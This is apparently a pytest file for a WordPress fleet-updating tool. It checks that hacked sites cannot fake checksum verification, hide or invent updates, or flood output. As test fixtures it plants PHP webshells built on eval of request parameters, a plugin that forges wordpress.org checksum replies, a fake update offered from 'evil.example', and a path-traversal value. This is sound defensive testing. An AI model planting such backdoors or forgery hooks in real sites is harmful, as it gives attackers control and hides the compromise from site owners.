"""Promise: a hacked WordPress neither vouches for itself, nor hides an update, nor stops the controller."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

import pytest

from lab.shell import run
from runner.model import Outcome
from tests.crew import Crew
from tests.steps.wordpress_sites import Someone

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from lab import Fleet

pytestmark = pytest.mark.fleet

SITE, OTHER = "acme-shop", "acme-blog"
PLAYBOOKS = (
    "name: Every\nsteps:\n  - wordpress.plugins: all\n  - wordpress.themes: all\n",
    "name: Sums\nsteps:\n  - wordpress.checksums\n",
)
VOUCHES = r"""<?php
// Answers for wordpress.org: whatever is on disk is what was published. Says so by itself, too.
add_filter( 'pre_http_request', function ( $reply, $request, $url ) {
	if ( false === strpos( $url, 'checksums' ) ) { return $reply; }
	$files = array();
	foreach ( new RecursiveIteratorIterator( new RecursiveDirectoryIterator( ABSPATH ) ) as $file ) {
		if ( is_file( $file ) ) { $files[ substr( $file, strlen( ABSPATH ) ) ] = md5_file( $file ); }
	}
	$body = json_encode( array( 'checksums' => $files, 'files' => array() ) );
	$status = array( 'code' => 200, 'message' => 'OK' );
	return array( 'headers' => array(), 'body' => $body, 'response' => $status, 'cookies' => array() );
}, -1, 3 );
register_shutdown_function( function () {
	$mark = isset( $GLOBALS['sitecrew'] ) ? $GLOBALS['sitecrew']['mark'] : '';
	echo "\n$mark {\"subject\": \"core\", \"state\": \"verified\", \"count\": 0, \"findings\": []}\n";
	echo "\n$mark {\"end\": true}\n";
} );
"""
HIDES = {
    "a filter on what is known": r"""<?php
foreach ( array( 'plugins', 'themes' ) as $kind ) {
	add_filter( "site_transient_update_$kind", function ( $value ) {
		if ( is_object( $value ) ) { $value->response = array(); }
		return $value;
	}, PHP_INT_MAX );
}
""",
    "a forged answer": r"""<?php
add_filter( 'pre_http_request', function ( $reply, $request, $url ) {
	if ( ! strpos( $url, '/update-check/' ) ) { return $reply; }
	$body = '{"plugins":[],"themes":[],"no_update":[],"translations":[]}';
	$status = array( 'code' => 200, 'message' => 'OK' );
	return array( 'headers' => array(), 'body' => $body, 'response' => $status, 'cookies' => array() );
}, -1, 3 );
""",
}
INVENTS = r"""<?php
add_filter( 'site_transient_update_plugins', function ( $value ) {
	if ( ! is_object( $value ) ) { return $value; }
	$from = array( 'harbour-forms' => 'downloads.wordpress.org/plugin', 'orchard-seo' => 'evil.example' );
	foreach ( $from as $slug => $at ) {
		$offer = array( 'slug' => $slug, 'new_version' => '9.9', 'package' => "https://$at/$slug.9.9.zip" );
		$value->response["$slug/$slug.php"] = (object) $offer;
	}
	return $value;
}, PHP_INT_MAX );
"""
LIES = r"""<?php
add_action( 'init', function () {
	require_once ABSPATH . 'wp-admin/includes/plugin.php';
	$plugins = get_plugins();
	$plugins['harbour-forms/harbour-forms.php']['Version'] = '9.9';
	wp_cache_set( 'plugins', array( '' => $plugins ), 'plugins' );
} );
"""
BOMBS = {
    "errors": "str_repeat( 'Fatal error: ' . str_repeat( ' in /x ', 3 ), 1000 ) . str_repeat( ' in ', 6000 )",
    "nesting": "\"\\n{$GLOBALS['sitecrew']['mark']} {\\\"wordpress\\\":\" . str_repeat( '[', 200000 )",
    "paths": (
        "\"\\n{$GLOBALS['sitecrew']['mark']} \" . json_encode( array( 'wordpress' => '6.5', 'php' => '8', "
        "'home' => 'http://x', 'siteurl' => 'http://x', 'root' => '/../../etc/' ) ) . \"\\n\""
    ),
}


ENDS = {"errors": "die;", "nesting": "die;", "paths": ""}


@pytest.fixture
def crew(fleet: Fleet, tmp_path: Path) -> Iterator[Crew]:
    fleet.reset(SITE, OTHER)
    fleet.catalogue.reset()
    yield Crew(fleet, tmp_path / "crew", *PLAYBOOKS)
    fleet.reset(SITE, OTHER)
    fleet.catalogue.reset()


def implant(fleet: Fleet, code: str) -> None:
    """Put a must-use plugin into the site, as whoever hacked it would."""
    site = fleet.sites[SITE].path
    folder = site / "wp-content/mu-plugins"
    (folder / "0-cache.php").write_text(code)
    run("chown", f"{site.owner()}:", folder / "0-cache.php")


def changes(crew: Crew, site: str = SITE) -> dict[str, tuple[str, str, str]]:
    said = crew.say("plan", "every", "--json", "-l", site)
    (planned,) = said.json["sites"]
    assert planned["problems"] == [], said.err
    return {c["item"]: (c["action"], c["to"], c["why"]) for c in planned["changes"]}


@pytest.mark.long
def test_a_hacked_core_cannot_vouch_for_itself(crew: Crew) -> None:
    fleet = crew.fleet
    load = fleet.sites[SITE].path / "wp-includes/load.php"
    load.write_text(load.read_text() + "\nif ( isset( $_GET['x'] ) ) { eval( $_GET['x'] ); }\n")
    (load.parent / "class-wp-cache.php").write_text("<?php eval( $_POST['x'] );")
    implant(fleet, VOUCHES)
    said = crew.say("run", "sums", "-l", f"{SITE},{OTHER}", "--json")
    assert said.code != 0
    done, _ = Someone(fleet, SITE).once("wordpress.checksums")
    assert done.outcome is Outcome.FAILED
    assert done.why == (
        "2 files differ from what wordpress.org published: wp-includes/load.php (changed), "
        "wp-includes/class-wp-cache.php (added)"
    )
    assert "not verifiable, loaded with every page: wp-content/mu-plugins/0-cache.php" in done.output
    ended = {row["site"]: row["outcome"] for row in crew.say("show", "last", "--json").json["sites"]}
    assert ended == {SITE: "failed", OTHER: "ok"}


@pytest.mark.parametrize(
    "way", ["a forged answer", pytest.param("a filter on what is known", marks=pytest.mark.long)]
)
def test_a_site_that_hides_its_updates_gets_them_all(crew: Crew, way: str) -> None:
    honest = {item: (action, to) for item, (action, to, _) in changes(crew).items()}
    assert sum(action == "change" for action, _ in honest.values()) >= 3
    implant(crew.fleet, HIDES[way])
    found = changes(crew)
    assert {item: (action, to) for item, (action, to, _) in found.items()} == honest
    for action, to, why in found.values():
        assert action != "change" or f"the site hides this update: wordpress.org offers {to}" in why
    said = crew.say("run", "every", "-l", SITE)
    assert said.code == 0, said.out + said.err
    for item, (action, to) in honest.items():
        if action == "change":
            place = crew.fleet.sites[SITE].path / "wp-content"
            text = "".join(
                f.read_text()
                for f in (*place.glob(f"plugins/{item}/{item}.php"), *place.glob(f"themes/{item}/style.css"))
            )
            assert f"Version: {to}" in text, item


def test_a_version_that_nobody_published_is_held_by_name(crew: Crew) -> None:
    implant(crew.fleet, INVENTS)
    found = changes(crew)
    action, to, why = found["harbour-forms"]
    assert (action, to) == ("hold", "9.9")
    assert why == "the site offers 9.9, which wordpress.org does not publish"
    assert found["orchard-seo"][0] == "hold"


@pytest.mark.long
def test_the_version_is_the_files_whatever_wordpress_says(crew: Crew) -> None:
    _, to, _ = changes(crew)["harbour-forms"]
    implant(crew.fleet, LIES)
    action, planned, why = changes(crew)["harbour-forms"]
    assert (action, planned) == ("change", to)
    assert "WordPress reports 9.9, its file says 1.8.2" in why


@pytest.mark.parametrize(
    "bomb", ["errors", *(pytest.param(bomb, marks=pytest.mark.long) for bomb in ("nesting", "paths"))]
)
def test_what_a_site_prints_harms_no_other_site(crew: Crew, bomb: str) -> None:
    hooked = f"add_action( 'init', function () {{ echo {BOMBS[bomb]}; {ENDS[bomb]} }} );"
    implant(crew.fleet, f"<?php {hooked}")
    began = time.monotonic()
    said = crew.say("plan", "every", "--json", "-l", f"{SITE},{OTHER}")
    assert time.monotonic() - began < 30
    sites = {site["site"]: site for site in said.json["sites"]}
    assert sites[OTHER]["problems"] == []
    assert any(change["action"] == "change" for change in sites[OTHER]["changes"])
    if bomb != "paths":  # its own facts come first there
        assert len(sites[SITE]["problems"]) == 1


def test_without_wordpress_org_the_plan_says_that_nothing_is_confirmed(crew: Crew) -> None:
    crew.edit("sitecrew.yaml", f":{crew.fleet.spec.wporg_port}", ":9")
    said = crew.say("plan", "every", "--json", "-l", SITE)
    (planned,) = said.json["sites"]
    note = "the updates offered by the site are not confirmed: wordpress.org could not be reached"
    assert note in planned["notes"][0]
    assert all("not confirmed" in c["why"] for c in planned["changes"] if c["action"] == "change")
